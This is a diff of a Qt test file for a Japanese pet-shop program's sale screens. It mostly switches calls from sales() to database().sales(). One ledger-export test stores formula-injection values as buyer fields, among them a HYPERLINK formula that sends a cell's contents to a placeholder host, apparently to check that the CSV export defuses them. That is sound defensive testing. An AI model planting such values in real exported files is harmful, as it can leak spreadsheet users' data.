@@ -109,7 +109,7 @@ void TestSaleScreens::saleInfoSavesLoadsAndCancels()
         pressOk(dialog);
     });
     action("actSaleInfo")->trigger();
-    const ChartSale saved = f->program->sales().chartSale(1);
+    const ChartSale saved = f->program->database().sales().chartSale(1);
     QCOMPARE(saved.microchip, Chip);
     QCOMPARE(saved.buyerName, QStringLiteral("山田 花子"));
     QCOMPARE(saved.explainedOn, QDate(2026, 12, 7));
@@ -123,14 +123,14 @@ void TestSaleScreens::saleInfoSavesLoadsAndCancels()
         dialog->findChild<QDialogButtonBox*>("buttonBox")->button(QDialogButtonBox::Cancel)->click();
     });
     action("actSaleInfo")->trigger();
-    QCOMPARE(f->program->sales().chartSale(1), saved);
+    QCOMPARE(f->program->database().sales().chartSale(1), saved);
     QCOMPARE(f->messages.asked.size(), 1);
     QCOMPARE(f->messages.asked[0].text, QStringLiteral("入力した内容を破棄しますか？"));
 }
 
 void TestSaleScreens::microchipRefusedOrConfirmed()
 {
-    f->program->sales().saveChartSale(2, withChip(Chip));
+    f->program->database().sales().saveChartSale(2, withChip(Chip));
     bool stayedOpen = false;
     whenDialogShows([&](QDialog* dialog) {
         type(dialog, "microchip", QStringLiteral("39214100012345")); // 14 digits
@@ -149,7 +149,7 @@ void TestSaleScreens::microchipRefusedOrConfirmed()
     QVERIFY(f->messages.asked[0].text.contains(QStringLiteral("マイクロチップ番号")));
     QVERIFY(f->messages.asked[1].text.contains(QStringLiteral("カルテ 2 番")));
     QVERIFY(f->messages.asked[1].defaultAnswer == MessageBoxes::Answer::Cancel);
-    QCOMPARE(f->program->sales().chartSale(1).microchip, Chip);
+    QCOMPARE(f->program->database().sales().chartSale(1).microchip, Chip);
 }
 
 void TestSaleScreens::refusedEntryTakesTheFocus_data()
@@ -200,7 +200,7 @@ void TestSaleScreens::refusedEntryTakesTheFocus()
     QCOMPARE(f->messages.asked[0].text, message);
     QCOMPARE(focused, box);
     QCOMPARE(selected, typed);
-    QVERIFY(f->program->sales().chartSale(1).isEmpty());
+    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
 }
 
 // Each of the twelve fields gets its own value, so a value saved into or shown from the wrong field
@@ -239,7 +239,7 @@ void TestSaleScreens::everyFieldSavedAndShownAgain()
     expected.explainedOn = QDate(2024, 8, 20);
     // The animal chart 1 shows: breed, birth date, no purchase date.
     expected.animal = SaleAnimal{QStringLiteral("柴犬"), QStringLiteral("2024/4/15"), QString()};
-    QCOMPARE(f->program->sales().chartSale(1), expected);
+    QCOMPARE(f->program->database().sales().chartSale(1), expected);
 
     QStringList shown;
     bool neutered = false;
@@ -264,7 +264,7 @@ void TestSaleScreens::explanationSheetAsPdf()
     if (!canReadPdfText())
         QSKIP("pdftotext (poppler-utils) is not installed");
     ShopSettings::save(ShopSettings::Keys[0], QStringLiteral("ペットショップ空"));
-    SaleStore& store = f->program->sales();
+    SaleStore& store = f->program->database().sales();
     ChartSale sale;
     sale.microchip = Chip;
     sale.chipCertificateOn = QDate(2024, 7, 9);
@@ -323,7 +323,7 @@ void TestSaleScreens::explanationSheetNamesTheAnimalOnEveryPage()
 {
     if (!canReadPdfText())
         QSKIP("pdftotext (poppler-utils) is not installed");
-    SaleStore& store = f->program->sales();
+    SaleStore& store = f->program->database().sales();
     ChartSale sale;
     sale.microchip = Chip;
     sale.buyerName = QStringLiteral("山田 花子");
@@ -359,13 +359,13 @@ void TestSaleScreens::ledgerReadsBack()
     sale.microchip = Chip;
     sale.buyerName = QStringLiteral("山田 花子");
     sale.buyerAddress = QStringLiteral("東京都千代田区1-2-3, 空ハイツ101");
-    f->program->sales().saveChartSale(1, sale);
+    f->program->database().sales().saveChartSale(1, sale);
     // What a buyer's fields could hold to make a spreadsheet open a link or run a formula.
     ChartSale crafted;
     crafted.buyerName = QStringLiteral("=HYPERLINK(\"http://x\"&B2,\"詳細\")");
     crafted.buyerAddress = QStringLiteral("@SUM(A1)");
     crafted.buyerPhone = QStringLiteral("+81-90-1234-5678");
-    f->program->sales().saveChartSale(2, crafted);
+    f->program->database().sales().saveChartSale(2, crafted);
     const QString path = f->path("ledger.csv");
     f->files.setNextAnswer(path);
     action("actSaleLedger")->trigger();
@@ -388,13 +388,13 @@ void TestSaleScreens::deletedChartTakesItsSaleInformation()
     for (const char* list :
          {"syurui.txt", "iro.txt", "tokucyou.txt", "kusuri.txt", "taicyou.txt", "shoku.txt"})
         writeFileBytes(QString::fromLatin1(list), QByteArray());
-    f->program->sales().saveChartSale(1, withChip(Chip));
-    f->program->sales().saveChartSale(2, withChip(QStringLiteral("392141000654321")));
+    f->program->database().sales().saveChartSale(1, withChip(Chip));
+    f->program->database().sales().saveChartSale(2, withChip(QStringLiteral("392141000654321")));
     QTest::mouseClick(f->control<QPushButton>("Form2", "Command1"), Qt::LeftButton);
     QTest::mouseClick(f->control<QPushButton>("Form3", "Command2"), Qt::LeftButton);
     QTRY_VERIFY(!f->window("Form3"));
-    QVERIFY(f->program->sales().chartSale(1).isEmpty());
-    QCOMPARE(f->program->sales().chartSale(2).microchip, QStringLiteral("392141000654321"));
+    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
+    QCOMPARE(f->program->database().sales().chartSale(2).microchip, QStringLiteral("392141000654321"));
     QCOMPARE(recordBytes("detapetto.dt", 1).mid(16, 30), QByteArray(30, ' '));
 }
 
@@ -444,8 +444,8 @@ void TestSaleScreens::breedAndDealerInfo()
         pressOk(dialog);
     });
     action("actBreedInfo")->trigger();
-    QCOMPARE(f->program->sales().breedTexts(QStringLiteral("柴犬")).item(4), QStringLiteral("室内ケージ"));
-    QCOMPARE(f->program->sales().breedTexts(QStringLiteral("チワワ")).item(5), QStringLiteral("1日2回"));
+    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("柴犬")).item(4), QStringLiteral("室内ケージ"));
+    QCOMPARE(f->program->database().sales().breedTexts(QStringLiteral("チワワ")).item(5), QStringLiteral("1日2回"));
 
     // A species' default texts: typed for 猫, kept while 犬 is shown, saved by OK.
     whenDialogShows([](QDialog* dialog) {
@@ -462,10 +462,10 @@ void TestSaleScreens::breedAndDealerInfo()
         pressOk(dialog);
     });
     action("actDealerInfo")->trigger();
-    QCOMPARE(f->program->sales().dealerInfo().animalHandler, QStringLiteral("佐藤 一郎"));
-    QCOMPARE(f->program->sales().speciesTexts(QStringLiteral("猫")).item(6),
+    QCOMPARE(f->program->database().sales().dealerInfo().animalHandler, QStringLiteral("佐藤 一郎"));
+    QCOMPARE(f->program->database().sales().speciesTexts(QStringLiteral("猫")).item(6),
              QStringLiteral("室内で遊ばせる"));
-    QVERIFY(f->program->sales().speciesTexts(QStringLiteral("犬")).isEmpty());
+    QVERIFY(f->program->database().sales().speciesTexts(QStringLiteral("犬")).isEmpty());
 
     // Like the other menus, these wait while typed trading values are not saved.
     ProgramFixture::activate(f->window("Form2"));
@@ -486,7 +486,7 @@ void TestSaleScreens::saleInformationOfAnotherAnimalIsToldAndClearedOnRequest()
         pressOk(dialog);
     });
     action("actSaleInfo")->trigger();
-    QCOMPARE(f->program->sales().chartSale(1).animal->kind, QStringLiteral("柴犬"));
+    QCOMPARE(f->program->database().sales().chartSale(1).animal->kind, QStringLiteral("柴犬"));
 
     PetRecord poodle{};
     setText(poodle.Kind, QStringLiteral("トイ・プードル"));
@@ -535,8 +535,8 @@ void TestSaleScreens::saleInformationOfAnotherAnimalIsToldAndClearedOnRequest()
     QCOMPARE(
         f->messages.asked[2].text,
         QStringLiteral("このカルテの動物と販売情報が一致しません。この動物の販売情報として保存しますか？"));
-    QVERIFY(f->program->sales().chartSale(1).isEmpty());
-    QVERIFY(f->program->sales().chartSales().isEmpty());
+    QVERIFY(f->program->database().sales().chartSale(1).isEmpty());
+    QVERIFY(f->program->database().sales().chartSales().isEmpty());
 }
 
 QTEST_MAIN(TestSaleScreens)
